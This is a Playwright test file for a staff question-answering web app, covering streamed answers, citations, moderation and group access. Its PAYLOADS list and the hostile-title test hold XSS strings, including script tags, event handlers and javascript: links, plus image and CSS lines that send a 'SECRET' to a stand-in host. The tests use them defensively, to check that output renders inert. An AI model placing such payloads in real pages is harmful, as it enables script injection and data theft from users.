"""Staff in real chromium: asking, watching the answer arrive, sources, hostile text.

The live app's chat model is the session's hostile model stub
(tests/model_stub.py), scripted per test; moderation runs offline in the
server. Each test's page fails at teardown on a console error, an uncaught
error, a request off the app's origin or `window.__pwned` (conftest).
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import assert_accessible
from tests.factories import CollectionFactory, indexed_document
from tests.model_stub import Reply

HANDBOOK = """# Expenses

Meal expenses are refunded up to 35 euros a day with receipts. Claims must be
filed within 30 days of the trip, through the expenses form.

# Security

Laptops must be locked with a cable in hotels.
"""
QUESTION = "How much are meal expenses refunded per day?"
ANSWER = "Meals are refunded up to **35 euros a day** with receipts [1]. "


@pytest.fixture
def model(model_stub_server):
    model_stub_server.reset()
    yield model_stub_server
    model_stub_server.reset()


@pytest.fixture
def handbook(staff_group):
    collection = CollectionFactory(name="Handbook", slug="handbook")
    collection.reader_groups.add(staff_group)
    indexed_document(collection, "handbook.md", HANDBOOK, title="Expenses policy")
    return collection


def ask(page: Page, question: str = QUESTION) -> None:
    page.goto("/ask/")
    page.fill("#question", question)
    page.click("#ask-form button[type=submit]")


def finished_turn(page: Page):
    turn = page.locator(".turn").last
    expect(turn.locator(".answer.live")).to_have_count(0, timeout=30_000)
    return turn


def test_tokens_arrive_before_the_answer_ends_and_it_renders(
    page, page_log, sign_in, handbook, model
):
    model.chat.push(Reply(ANSWER * 8, chunk_size=6, delay=0.05))
    sign_in()
    ask(page)
    live = page.locator(".turn .answer.live .answer-text")
    # Text is on screen while the answer is still being written.
    expect(live).to_contain_text("35 euros", timeout=20_000)
    assert page.locator(".turn .answer.live").count() == 1
    turn = finished_turn(page)
    # The finished turn is rendered Markdown with linked citations.
    expect(turn.locator(".rendered strong").first).to_have_text("35 euros a day")
    expect(turn.locator("a.cite").first).to_have_text("[1]")
    expect(turn.locator(".citations")).to_contain_text("Expenses policy")
    assert re.search(r"/ask/\d+/$", page.url), "the thread's URL is pushed"
    assert_accessible(page)
    page_log.assert_clean()


def test_reloading_mid_answer_reattaches_and_sees_it_finish(
    page, page_log, sign_in, handbook, model
):
    model.chat.push(Reply(ANSWER * 20, chunk_size=5, delay=0.03))
    sign_in()
    ask(page)
    expect(page.locator(".turn .answer.live .answer-text")).to_contain_text(
        "Meals", timeout=20_000
    )
    page.reload()
    # The reloaded page attaches to the same answer, still being written.
    turn = finished_turn(page)
    text = turn.locator(".answer-text").inner_text()
    assert text.count("35 euros a day") == 20, text  # nothing lost, nothing doubled
    page_log.assert_clean()


def test_a_citation_opens_the_side_panel_with_title_and_quote(
    page, page_log, sign_in, handbook, model
):
    model.chat.push(Reply(ANSWER, chunk_size=10))
    sign_in()
    ask(page)
    turn = finished_turn(page)
    turn.locator("a.cite").first.click()
    panel = page.locator("#source-panel")
    expect(panel.locator("h2")).to_contain_text("Expenses policy")
    expect(panel.locator(".quote")).to_contain_text("35 euros a day")
    expect(
        panel.get_by_role("link", name="Show the passage in the document")
    ).to_be_visible()
    assert_accessible(page)
    panel.get_by_role("link", name="Show the passage in the document").click()
    expect(page.locator(".passage.cited")).to_contain_text("35 euros")
    page_log.assert_clean()


def test_a_moderation_refusal_is_said_in_plain_words(page, page_log, sign_in, handbook):
    sign_in()
    ask(page, "I will kill you and your whole family tonight.")
    turn = finished_turn(page)
    expect(turn.locator(".state")).to_contain_text("not answered")
    expect(turn.locator(".state")).to_contain_text("flagged")
    page_log.assert_clean()


PAYLOADS = [
    "<script>window.__pwned='script'</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<svg onload=\"window.__pwned='svg'\"></svg>",
    "[click](javascript:window.__pwned='md-link')",
    "![leak](http://127.0.0.2:9/leak?d=SECRET)",
    '<a href="javascript:window.__pwned=1">x</a>',
    "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
    "`<script>` in code and <b onmouseover=__pwned=1>bold</b>",
    "&lt;script&gt;window.__pwned='entity'&lt;/script&gt;",
    "<style>body{background:url(http://127.0.0.2:9/css)}</style>",
]


def test_hostile_model_output_renders_inert_streamed_and_reloaded(
    page, page_log, sign_in, handbook, model
):
    hostile = "Meals are refunded [1]. " + " ".join(PAYLOADS)
    # Split into small pieces, so payloads cross streamed chunks.
    model.chat.push(Reply(hostile, chunk_size=7, delay=0.01))
    sign_in()
    ask(page)
    turn = finished_turn(page)
    expect(turn).to_contain_text("window.__pwned='script'")  # shown as text
    page.reload()
    expect(page.locator(".turn").last).to_contain_text("onerror")
    page_log.assert_clean()  # 0 executions, 0 off-host requests


def test_hostile_titles_and_names_render_inert(
    page, page_log, sign_in, staff_group, model
):
    payload = "<img src=x onerror=\"window.__pwned='title'\">"
    collection = CollectionFactory(name=f"Notes {payload}", slug="notes")
    collection.reader_groups.add(staff_group)
    indexed_document(
        collection,
        f"{payload}.md",
        HANDBOOK,
        title="Policy <script>__pwned=1</script>",
    )
    model.chat.push(Reply(ANSWER, chunk_size=10))
    sign_in()
    ask(page)
    turn = finished_turn(page)
    expect(turn.locator(".citations")).to_contain_text("<script>__pwned=1</script>")
    turn.locator("a.cite").first.click()
    expect(page.locator("#source-panel h2")).to_contain_text("<script>")
    page.goto("/ask/")
    expect(page.locator(".scope")).to_contain_text("onerror")
    page_log.assert_clean()


def test_staff_cannot_reach_another_groups_document(page, sign_in, model):
    other = CollectionFactory(name="Board minutes", slug="board")
    document = indexed_document(other, "minutes.md", HANDBOOK, title="Minutes")
    sign_in()
    for url in (
        f"/documents/{document.pk}/file",
        f"/documents/{document.pk}/passages/",
    ):
        response = page.goto(url)
        assert response.status == 404, url
